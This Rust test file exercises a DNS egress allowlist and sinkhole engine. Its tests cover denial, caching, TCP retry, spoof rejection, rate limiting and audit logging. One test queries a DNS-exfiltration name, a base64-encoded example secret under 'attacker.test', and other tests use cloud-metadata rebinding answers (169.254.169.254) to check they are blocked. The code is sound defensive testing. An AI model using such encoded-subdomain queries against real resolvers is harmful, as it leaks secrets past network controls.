//! The whole query path without listeners: real audit log, a stub
//! upstream on loopback that counts what reaches it.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::net::Ipv4Addr;
use std::sync::atomic::AtomicUsize;
use std::sync::{Arc, Mutex};

use hickory_proto::op::{Edns, MessageType, OpCode, Query as Question};
use hickory_proto::rr::rdata::{A, SOA};
use hickory_proto::rr::{RData, Record, RecordType};
use secureops_audit::AuditConfig;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::*;
use crate::dns::SinkholeMode;

/// What the stub answers for a query (`tcp` tells the transport); `None`
/// sends nothing.
type Answer = dyn Fn(&Message, bool) -> Option<Message> + Send + Sync;

/// A stub upstream on 127.0.0.1 (UDP and TCP on one port).
struct Stub {
    addr: SocketAddr,
    udp: Arc<AtomicUsize>,
    tcp: Arc<AtomicUsize>,
    seen: Arc<Mutex<Vec<Message>>>,
}

impl Stub {
    async fn start(answer: impl Fn(&Message, bool) -> Option<Message> + Send + Sync + 'static) -> Stub {
        let answer: Arc<Answer> = Arc::new(answer);
        // A free UDP port whose TCP twin is free too.
        let (socket, listener) = loop {
            let socket = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
            if let Ok(listener) = tokio::net::TcpListener::bind(socket.local_addr().unwrap()).await {
                break (socket, listener);
            }
        };
        let addr = socket.local_addr().unwrap();
        let (udp, tcp) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicUsize::new(0)));
        let seen = Arc::new(Mutex::new(Vec::new()));
        let (count, log, reply) = (Arc::clone(&udp), Arc::clone(&seen), Arc::clone(&answer));
        tokio::spawn(async move {
            let mut buf = vec![0u8; 4096];
            while let Ok((n, peer)) = socket.recv_from(&mut buf).await {
                let q = Message::from_vec(&buf[..n]).unwrap();
                count.fetch_add(1, Ordering::SeqCst);
                log.lock().unwrap().push(q.clone());
                if let Some(r) = reply(&q, false) {
                    socket.send_to(&r.to_vec().unwrap(), peer).await.unwrap();
                }
            }
        });
        let (count, log) = (Arc::clone(&tcp), Arc::clone(&seen));
        tokio::spawn(async move {
            while let Ok((mut s, _)) = listener.accept().await {
                let len = usize::from(s.read_u16().await.unwrap());
                let mut buf = vec![0u8; len];
                s.read_exact(&mut buf).await.unwrap();
                let q = Message::from_vec(&buf).unwrap();
                count.fetch_add(1, Ordering::SeqCst);
                log.lock().unwrap().push(q.clone());
                if let Some(r) = answer(&q, true) {
                    let bytes = r.to_vec().unwrap();
                    s.write_u16(bytes.len() as u16).await.unwrap();
                    s.write_all(&bytes).await.unwrap();
                }
            }
        });
        Stub { addr, udp, tcp, seen }
    }

    fn queries(&self) -> usize {
        self.udp.load(Ordering::SeqCst) + self.tcp.load(Ordering::SeqCst)
    }
}

/// The reply to `q` with `records` in the answer section.
fn reply(q: &Message, records: Vec<Record>) -> Message {
    let mut m = Message::response(q.metadata.id, OpCode::Query);
    m.metadata.recursion_desired = q.metadata.recursion_desired;
    m.metadata.recursion_available = true;
    m.add_queries(q.queries.iter().cloned());
    for r in records {
        m.add_answer(r);
    }
    if q.edns.is_some() {
        m.set_edns(Edns::new());
    }
    m
}

fn a_record(q: &Message, ip: Ipv4Addr, ttl: u32) -> Record {
    Record::from_rdata(q.queries[0].name().clone(), ttl, RData::A(A(ip)))
}

struct Fixture {
    engine: Engine,
    audit: AuditLog,
    path: std::path::PathBuf,
    _dir: tempfile::TempDir,
}

const CLIENT: SocketAddr = SocketAddr::new(IpAddr::V4(Ipv4Addr::LOCALHOST), 40000);

struct Dig;

impl crate::dns::PeerAttribution for Dig {
    fn attribute(&self, _: Transport, peer: SocketAddr, _: SocketAddr) -> Option<(u32, Option<String>)> {
        (peer == CLIENT).then(|| (4242, Some("/usr/bin/dig".to_owned())))
    }
}

fn fixture(upstream: Vec<SocketAddr>, tweak: impl FnOnce(&mut DnsConfig)) -> Fixture {
    fixture_in(Mode::Enforce, upstream, tweak)
}

fn fixture_in(mode: Mode, upstream: Vec<SocketAddr>, tweak: impl FnOnce(&mut DnsConfig)) -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("audit.jsonl");
    let audit = AuditLog::open(AuditConfig::new(&path, dir.path().join("audit.key"))).unwrap();
    let mut config = DnsConfig {
        listen: "127.0.0.1:0".parse().unwrap(),
        upstream,
        hosts: HashMap::from([
            (
                "static.test".to_owned(),
                vec!["127.0.0.1".parse().unwrap(), "::1".parse().unwrap()],
            ),
            ("denied-static.test".to_owned(), vec!["127.0.0.1".parse().unwrap()]),
            ("metadata.test".to_owned(), vec!["169.254.169.254".parse().unwrap()]),
        ]),
        upstream_timeout: Duration::from_millis(300),
        ..DnsConfig::default()
    };
    tweak(&mut config);
    let policy = DnsPolicy {
        allowlist: Allowlist::parse(&[
            "static.test",
            "metadata.test",
            "*.allowed.test",
            "port.test:8443",
            "*.in-addr.arpa",
            "10.0.0.0/8",
        ])
        .unwrap(),
        private: PrivateDestinations::parse(&["127.0.0.0/8", "::1"]).unwrap(),
        attribution: Some(Arc::new(Dig)),
        mode,
    };
    Fixture {
        engine: Engine::new(config, policy, audit.clone(), "127.0.0.1:53".parse().unwrap()),
        audit,
        path,
        _dir: dir,
    }
}

impl Fixture {
    async fn ask_with(&self, m: &Message, transport: Transport) -> Message {
        let bytes = m.to_vec().unwrap();
        let reply = self.engine.answer(&bytes, CLIENT, transport).await.unwrap();
        Message::from_vec(&reply).unwrap()
    }

    async fn ask(&self, qname: &str, qtype: RecordType) -> Message {
        self.ask_with(&query(qname, qtype), Transport::Udp).await
    }

    /// The `dns` entries, parsed.
    fn entries(&self) -> Vec<serde_json::Value> {
        std::fs::read_to_string(&self.path)
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
            .filter(|e| e["kind"] == "dns")
            .collect()
    }
}

fn query(qname: &str, qtype: RecordType) -> Message {
    let mut m = Message::query();
    m.metadata.recursion_desired = true;
    m.add_query(Question::query(Name::from_ascii(qname).unwrap(), qtype));
    m
}

#[tokio::test]
async fn denied_names_never_reach_the_upstream() {
    let stub = Stub::start(|q, _| Some(reply(q, vec![a_record(q, Ipv4Addr::new(93, 184, 215, 14), 60)]))).await;
    let f = fixture(vec![stub.addr], |_| {});
    let exfil = "c2VjcmV0LXRva2VuOiBBS0lBSU9TRk9ETk43RVhBTVBMRQ.attacker.test.";
    for qtype in [RecordType::A, RecordType::TXT, RecordType::HTTPS, RecordType::ANY] {
        let r = f.ask(exfil, qtype).await;
        assert_eq!(r.metadata.response_code, ResponseCode::NXDomain, "{qtype}");
    }
    // A static entry does not make a name allowed.
    let r = f.ask("denied-static.test.", RecordType::A).await;
    assert_eq!(r.metadata.response_code, ResponseCode::NXDomain);
    assert_eq!(stub.queries(), 0);
    let entries = f.entries();
    assert_eq!(entries.len(), 5);
    let first = &entries[0];
    assert_eq!(first["decision"], "deny");
    assert_eq!(first["via"], "dns");
    assert_eq!(first["qtype"], "A");
    assert_eq!(first["pid"], 4242);
    assert_eq!(first["exe"], "/usr/bin/dig");
    assert_eq!(
        first["host"],
        "c2vjcmv0lxrva2vuoibbs0lbsu9trk9etk43rvhbtvbmrq.attacker.test"
    );
    assert!(
        first["reason"]
            .as_str()
            .unwrap()
            .contains("not in the egress allowlist")
    );
    // The case (base64 is case-sensitive) survives in the detail.
    assert!(
        first["detail"].as_str().unwrap().contains(exfil.trim_end_matches('.')),
        "{first}"
    );
    assert_eq!(entries[1]["qtype"], "TXT");
    assert_eq!(entries[2]["qtype"], "HTTPS");
}

#[tokio::test]
async fn zero_sinkhole_answers_unspecified_addresses() {
    let f = fixture(vec![], |c| c.sinkhole = SinkholeMode::Zero);
    let r = f.ask("x.denied.test.", RecordType::A).await;
    assert_eq!(r.metadata.response_code, ResponseCode::NoError);
    assert_eq!(r.answers[0].data, RData::A(A(Ipv4Addr::UNSPECIFIED)));
    let r = f.ask("x.denied.test.", RecordType::MX).await;
    assert_eq!(r.metadata.response_code, ResponseCode::NoError);
    assert!(r.answers.is_empty());
}

#[tokio::test]
async fn static_names_answer_locally() {
    let stub = Stub::start(|_, _| None).await;
    let f = fixture(vec![stub.addr], |_| {});
    let r = f.ask("Static.Test.", RecordType::A).await;
    assert_eq!(r.answers.len(), 1);
    assert_eq!(r.answers[0].data, RData::A(A(Ipv4Addr::LOCALHOST)));
    assert_eq!(f.ask("static.test.", RecordType::AAAA).await.answers.len(), 1);
    // Unsafe static addresses are vetted like upstream ones.
    let r = f.ask("metadata.test.", RecordType::A).await;
    assert_eq!(r.metadata.response_code, ResponseCode::NXDomain);
    assert_eq!(stub.queries(), 0);
    let entries = f.entries();
    assert_eq!(entries[0]["decision"], "allow");
    assert_eq!(
        entries[0]["reason"],
        "allowed by rule \"static.test\"; answered from [dns] hosts"
    );
    assert_eq!(entries[2]["decision"], "deny");
    assert!(entries[2]["reason"].as_str().unwrap().contains("169.254.169.254"));
}

#[tokio::test]
async fn allowed_names_are_forwarded_once_then_cached() {
    let stub = Stub::start(|q, _| Some(reply(q, vec![a_record(q, Ipv4Addr::new(93, 184, 215, 14), 300)]))).await;
    let f = fixture(vec![stub.addr], |_| {});
    let mut first = query("www.allowed.test.", RecordType::A);
    let mut edns = Edns::new();
    edns.set_max_payload(1232);
    first.set_edns(edns);
    let r = f.ask_with(&first, Transport::Udp).await;
    assert_eq!(r.metadata.id, first.metadata.id);
    assert_eq!(r.answers[0].data, RData::A(A(Ipv4Addr::new(93, 184, 215, 14))));
    assert_eq!(stub.queries(), 1);
    // The upstream saw the client's EDNS, under another ID.
    let seen = stub.seen.lock().unwrap()[0].clone();
    assert_eq!(seen.edns.as_ref().map(Edns::max_payload), Some(1232));
    assert_ne!(
        seen.metadata.id, first.metadata.id,
        "fresh random ID upstream (1 in 65536 flake)"
    );
    // Any case, same cache entry.
    let r = f.ask("WWW.allowed.test.", RecordType::A).await;
    assert_eq!(r.answers[0].data, RData::A(A(Ipv4Addr::new(93, 184, 215, 14))));
    assert!(r.answers[0].ttl <= 300);
    assert_eq!(r.queries[0].name().to_ascii(), "WWW.allowed.test.");
    assert_eq!(stub.queries(), 1, "second answer from cache");
    // Another type is another entry.
    f.ask("www.allowed.test.", RecordType::AAAA).await;
    assert_eq!(stub.queries(), 2);
    let entries = f.entries();
    assert!(entries[0]["reason"].as_str().unwrap().contains("answered by upstream"));
    assert!(entries[1]["reason"].as_str().unwrap().contains("answered from cache"));
    assert!(entries.iter().all(|e| e["decision"] == "allow"));
}

#[tokio::test]
async fn any_port_rule_makes_a_name_resolvable() {
    let stub = Stub::start(|q, _| Some(reply(q, vec![a_record(q, Ipv4Addr::new(93, 184, 215, 14), 60)]))).await;
    let f = fixture(vec![stub.addr], |_| {});
    let r = f.ask("port.test.", RecordType::A).await;
    assert_eq!(r.answers.len(), 1);
    // IP/CIDR rules never make names resolvable.
    let r = f.ask("10.0.0.1.", RecordType::A).await;
    assert_eq!(r.metadata.response_code, ResponseCode::NXDomain);
    assert_eq!(stub.queries(), 1);
}

#[tokio::test]
async fn negative_answers_are_cached_per_soa() {
    let stub = Stub::start(|q, _| {
        let mut m = reply(q, vec![]);
        m.metadata.response_code = ResponseCode::NXDomain;
        m.add_authority(Record::from_rdata(
            Name::from_ascii("allowed.test.").unwrap(),
            300,
            RData::SOA(SOA::new(
                Name::from_ascii("ns.allowed.test.").unwrap(),
                Name::from_ascii("admin.allowed.test.").unwrap(),
                1,
                3600,
                600,
                86400,
                60,
            )),
        ));
        Some(m)
    })
    .await;
    let f = fixture(vec![stub.addr], |_| {});
    for _ in 0..3 {
        let r = f.ask("gone.allowed.test.", RecordType::A).await;
        assert_eq!(r.metadata.response_code, ResponseCode::NXDomain);
    }
    assert_eq!(stub.queries(), 1);
}

#[tokio::test]
async fn rebinding_answers_are_sinkholed_and_not_cached() {
    let stub = Stub::start(|q, _| Some(reply(q, vec![a_record(q, Ipv4Addr::new(169, 254, 169, 254), 300)]))).await;
    let f = fixture(vec![stub.addr], |_| {});
    for _ in 0..2 {
        let r = f.ask("metadata.allowed.test.", RecordType::A).await;
        assert_eq!(r.metadata.response_code, ResponseCode::NXDomain);
        assert!(r.answers.is_empty());
    }
    assert_eq!(stub.queries(), 2, "a refused answer is not cached");
    let e = &f.entries()[0];
    assert_eq!(e["decision"], "deny");
    assert!(e["reason"].as_str().unwrap().contains("rebinding"), "{e}");
    assert!(e["reason"].as_str().unwrap().contains("169.254.169.254"), "{e}");
}

#[tokio::test]
async fn truncated_upstream_answers_are_retried_over_tcp() {
    let stub = Stub::start(|q, tcp| {
        let records = (1..=60)
            .map(|i| a_record(q, Ipv4Addr::new(93, 184, 215, i), 60))
            .collect();
        let mut m = reply(q, records);
        if !tcp {
            m.answers.clear();
            m.metadata.truncation = true;
        }
        Some(m)
    })
    .await;
    let f = fixture(vec![stub.addr], |_| {});
    // Over TCP the client gets everything.
    let r = f
        .ask_with(&query("big.allowed.test.", RecordType::A), Transport::Tcp)
        .await;
    assert_eq!(r.answers.len(), 60);
    assert_eq!(stub.udp.load(Ordering::SeqCst), 1);
    assert_eq!(stub.tcp.load(Ordering::SeqCst), 1);
    // Over UDP (512 bytes) it is told to retry over TCP; from cache now.
    let r = f.ask("big.allowed.test.", RecordType::A).await;
    assert!(r.metadata.truncation);
    assert_eq!(stub.queries(), 2);
}

#[tokio::test]
async fn upstreams_are_tried_in_order_and_spoofs_ignored() {
    // The first upstream never answers.
    let dead = Stub::start(|_, _| None).await;
    // The second sends a wrong ID and a wrong question before the answer.
    let good = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
    let good_addr = good.local_addr().unwrap();
    tokio::spawn(async move {
        let mut buf = vec![0u8; 4096];
        while let Ok((n, peer)) = good.recv_from(&mut buf).await {
            let q = Message::from_vec(&buf[..n]).unwrap();
            let mut wrong_id = reply(&q, vec![a_record(&q, Ipv4Addr::new(6, 6, 6, 6), 60)]);
            wrong_id.metadata.id = q.metadata.id.wrapping_add(1);
            let mut other = query("other.allowed.test.", RecordType::A);
            other.metadata.id = q.metadata.id;
            let other = reply(&other, vec![a_record(&other, Ipv4Addr::new(6, 6, 6, 7), 60)]);
            let right = reply(&q, vec![a_record(&q, Ipv4Addr::new(93, 184, 215, 14), 60)]);
            for m in [wrong_id, other, right] {
                good.send_to(&m.to_vec().unwrap(), peer).await.unwrap();
            }
        }
    });
    let f = fixture(vec![dead.addr, good_addr], |_| {});
    let r = f.ask("www.allowed.test.", RecordType::A).await;
    assert_eq!(r.answers[0].data, RData::A(A(Ipv4Addr::new(93, 184, 215, 14))));
    assert_eq!(dead.queries(), 1);
    let e = &f.entries()[0];
    assert!(e["reason"].as_str().unwrap().contains(&good_addr.to_string()), "{e}");
}

#[tokio::test]
async fn no_upstream_answer_is_servfail() {
    let dead = Stub::start(|_, _| None).await;
    let f = fixture(vec![dead.addr], |_| {});
    let r = f.ask("www.allowed.test.", RecordType::A).await;
    assert_eq!(r.metadata.response_code, ResponseCode::ServFail);
    let e = &f.entries()[0];
    assert_eq!(e["decision"], "deny");
    assert!(e["reason"].as_str().unwrap().contains("did not answer"), "{e}");
    let f = fixture(vec![], |_| {});
    let r = f.ask("www.allowed.test.", RecordType::A).await;
    assert_eq!(r.metadata.response_code, ResponseCode::ServFail);
}

#[tokio::test]
async fn private_reverse_lookups_stay_local() {
    let stub = Stub::start(|q, _| Some(reply(q, vec![]))).await;
    let f = fixture(vec![stub.addr], |_| {});
    let r = f.ask("1.0.0.127.in-addr.arpa.", RecordType::PTR).await;
    assert_eq!(r.metadata.response_code, ResponseCode::NoError);
    assert_eq!(r.answers.len(), 2, "static.test and denied-static.test");
    let r = f.ask("9.9.168.192.in-addr.arpa.", RecordType::PTR).await;
    assert_eq!(r.metadata.response_code, ResponseCode::NXDomain);
    assert_eq!(stub.queries(), 0, "even though *.in-addr.arpa is allowed");
    // A public address is decided on its name like any other.
    f.ask("8.8.8.8.in-addr.arpa.", RecordType::PTR).await;
    assert_eq!(stub.queries(), 1);
    assert_eq!(f.entries().len(), 3);
}

#[tokio::test]
async fn malformed_queries_get_formerr_and_an_entry() {
    let f = fixture(vec![], |_| {});
    let mut loop_ptr = vec![0xab, 0xcd, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
    loop_ptr.extend_from_slice(&[0xc0, 12, 0, 1, 0, 1]);
    let r = f.engine.answer(&loop_ptr, CLIENT, Transport::Udp).await.unwrap();
    let r = Message::from_vec(&r).unwrap();
    assert_eq!(r.metadata.response_code, ResponseCode::FormErr);
    // Runts and responses get nothing, and no entry of their own.
    assert!(f.engine.answer(&[1, 2, 3], CLIENT, Transport::Udp).await.is_none());
    let mut response = query("a.test.", RecordType::A);
    response.metadata.message_type = MessageType::Response;
    let bytes = response.to_vec().unwrap();
    assert!(f.engine.answer(&bytes, CLIENT, Transport::Udp).await.is_none());
    let entries = f.entries();
    assert_eq!(entries.len(), 1);
    assert!(entries[0]["reason"].as_str().unwrap().starts_with("malformed query"));
    // They are counted in the summary.
    f.engine.report().await;
    let entries = f.entries();
    assert_eq!(entries.len(), 2);
    assert!(
        entries[1]["reason"].as_str().unwrap().contains("2 messages dropped"),
        "{}",
        entries[1]
    );
}

#[tokio::test]
async fn a_failing_audit_log_lets_nothing_through() {
    let stub = Stub::start(|q, _| Some(reply(q, vec![a_record(q, Ipv4Addr::new(93, 184, 215, 14), 60)]))).await;
    let f = fixture(vec![stub.addr], |_| {});
    f.audit.close().await.unwrap();
    let r = f.ask("static.test.", RecordType::A).await;
    assert_eq!(r.metadata.response_code, ResponseCode::Refused);
    let r = f.ask("x.denied.test.", RecordType::A).await;
    assert_eq!(r.metadata.response_code, ResponseCode::NXDomain);
    // Known to be failing: not even forwarded.
    let r = f.ask("www.allowed.test.", RecordType::A).await;
    assert_eq!(r.metadata.response_code, ResponseCode::Refused);
    assert_eq!(stub.queries(), 0);
}

#[tokio::test]
async fn over_the_rate_limit_is_refused_and_summarised() {
    let f = fixture(vec![], |c| {
        c.client_rate = 1;
        c.client_burst = 3;
    });
    let bytes = query("static.test.", RecordType::A).to_vec().unwrap();
    let flooder: IpAddr = "127.0.0.2".parse().unwrap();
    let admitted = (0..10).filter(|_| f.engine.admit(&bytes, flooder).is_ok()).count();
    assert_eq!(admitted, 3);
    let refused = f.engine.admit(&bytes, flooder).unwrap_err().unwrap();
    assert_eq!(
        Message::from_vec(&refused).unwrap().metadata.response_code,
        ResponseCode::Refused
    );
    // Another client is not affected.
    assert!(f.engine.admit(&bytes, "127.0.0.3".parse().unwrap()).is_ok());
    f.engine.report().await;
    let entries = f.entries();
    assert_eq!(entries.len(), 1);
    assert!(
        entries[0]["reason"]
            .as_str()
            .unwrap()
            .contains("client 127.0.0.2: 8 queries refused")
    );
}

#[test]
fn the_sinkhole_is_never_its_own_upstream() {
    let at = |s: &str| s.parse::<SocketAddr>().unwrap();
    assert!(is_self(at("127.0.0.1:5354"), at("127.0.0.1:5354")));
    assert!(is_self(at("127.0.0.53:5354"), at("127.0.0.1:5354")));
    assert!(is_self(at("127.0.0.1:53"), at("0.0.0.0:53")));
    assert!(!is_self(at("127.0.0.53:53"), at("127.0.0.1:5354")));
    assert!(!is_self(at("10.0.0.1:53"), at("127.0.0.1:53")));
}

#[tokio::test]
async fn local_answers_are_prepared_at_once_and_recorded_as_one_group() {
    let upstream_ip = Ipv4Addr::new(93, 184, 215, 14);
    let stub = Stub::start(move |q, _| Some(reply(q, vec![a_record(q, upstream_ip, 300)]))).await;
    let f = fixture(vec![stub.addr], |_| {});
    let bytes = |name: &str| query(name, RecordType::A).to_vec().unwrap();
    let prepare = |name: &str| f.engine.prepare(&bytes(name), CLIENT, Transport::Udp);
    // The client's process is not known yet: that takes a lookup.
    assert!(matches!(prepare("x.denied.test."), Prepared::Async(_)));
    f.engine.answer(&bytes("x.denied.test."), CLIENT, Transport::Udp).await;
    // The lookup lands in the cache from the blocking pool: give it time.
    for _ in 0..200 {
        if matches!(prepare("x.denied.test."), Prepared::Local(..)) {
            break;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    // An allowed name not in the cache needs the upstream.
    assert!(matches!(prepare("www.allowed.test."), Prepared::Async(_)));
    f.engine
        .answer(&bytes("www.allowed.test."), CLIENT, Transport::Udp)
        .await;
    // Denied, static and cached: decided here.
    let names = ["y.denied.test.", "static.test.", "www.allowed.test."];
    let (mut findings, mut answers) = (Vec::new(), Vec::new());
    for name in names {
        let Prepared::Local(finding, answer) = prepare(name) else {
            panic!("{name} was not answered locally");
        };
        findings.push(finding);
        answers.push(answer);
    }
    let recorded = loop {
        if let Some((recorded, _appended)) = f.engine.record_now(&findings) {
            break recorded;
        }
        tokio::time::sleep(Duration::from_millis(1)).await;
    };
    assert_eq!(recorded, [true, true, true]);
    let replies: Vec<Message> = answers
        .into_iter()
        .map(|a| Message::from_vec(&a.into_bytes(true)).unwrap())
        .collect();
    assert_eq!(replies[0].metadata.response_code, ResponseCode::NXDomain);
    assert_eq!(replies[1].answers[0].data, RData::A(A(Ipv4Addr::LOCALHOST)));
    assert_eq!(replies[2].answers[0].data, RData::A(A(upstream_ip)));
    assert_eq!(stub.queries(), 1);
    // One group: three entries, one signature on the last.
    let entries = f.entries();
    let group = &entries[entries.len() - 3..];
    let decisions: Vec<&str> = group.iter().map(|e| e["decision"].as_str().unwrap()).collect();
    assert_eq!(decisions, ["deny", "allow", "allow"]);
    let signed: Vec<bool> = group.iter().map(|e| !e["sig"].is_null()).collect();
    assert_eq!(signed, [false, false, true]);
    assert!(group.iter().all(|e| e["pid"] == 4242));
    // Not recorded: an allowed answer becomes REFUSED, a denial stays.
    let refused = |name: &str| match prepare(name) {
        Prepared::Local(_, answer) => {
            Message::from_vec(&answer.into_bytes(false))
                .unwrap()
                .metadata
                .response_code
        }
        _ => panic!("{name} was not answered locally"),
    };
    assert_eq!(refused("static.test."), ResponseCode::Refused);
    assert_eq!(refused("www.allowed.test."), ResponseCode::Refused);
    assert_eq!(refused("z.denied.test."), ResponseCode::NXDomain);
}

#[tokio::test]
async fn learn_mode_resolves_unlisted_names_but_still_vets_their_answers() {
    // The stub answers a global address, except for rebind.test.
    let stub = Stub::start(|q, _| {
        let name = q.queries[0].name().to_ascii();
        let ip = if name.starts_with("rebind.") {
            Ipv4Addr::new(169, 254, 169, 254)
        } else {
            Ipv4Addr::new(93, 184, 215, 14)
        };
        Some(reply(q, vec![a_record(q, ip, 60)]))
    })
    .await;
    let f = fixture_in(Mode::Learn, vec![stub.addr], |c| {
        c.hosts.insert(
            "unlisted-metadata.test".to_owned(),
            vec!["169.254.169.254".parse().unwrap()],
        );
    });
    let r = f.ask("new.example.", RecordType::A).await;
    assert_eq!(r.metadata.response_code, ResponseCode::NoError);
    assert_eq!(r.answers.len(), 1);
    // Safety still refuses: a rebinding answer and an unsafe static answer.
    let r = f.ask("rebind.example.", RecordType::A).await;
    assert_eq!(r.metadata.response_code, ResponseCode::NXDomain);
    let r = f.ask("unlisted-metadata.test.", RecordType::A).await;
    assert_eq!(r.metadata.response_code, ResponseCode::NXDomain);
    // A listed name keeps its rule as the reason.
    let r = f.ask("static.test.", RecordType::A).await;
    assert_eq!(r.metadata.response_code, ResponseCode::NoError);
    assert_eq!(stub.queries(), 2, "the static names never reach the upstream");
    let entries = f.entries();
    let reasons: Vec<(&str, &str)> = entries
        .iter()
        .map(|e| (e["decision"].as_str().unwrap(), e["reason"].as_str().unwrap()))
        .collect();
    assert_eq!(reasons[0].0, "allow");
    assert!(reasons[0].1.starts_with("learn: new.example "), "{reasons:?}");
    assert_eq!(reasons[1].0, "deny");
    assert!(reasons[1].1.contains("rebinding"), "{reasons:?}");
    assert_eq!(reasons[2].0, "deny");
    assert!(reasons[2].1.contains("169.254.169.254"), "{reasons:?}");
    assert_eq!(reasons[3].0, "allow");
    assert!(reasons[3].1.starts_with("allowed by rule"), "{reasons:?}");
}
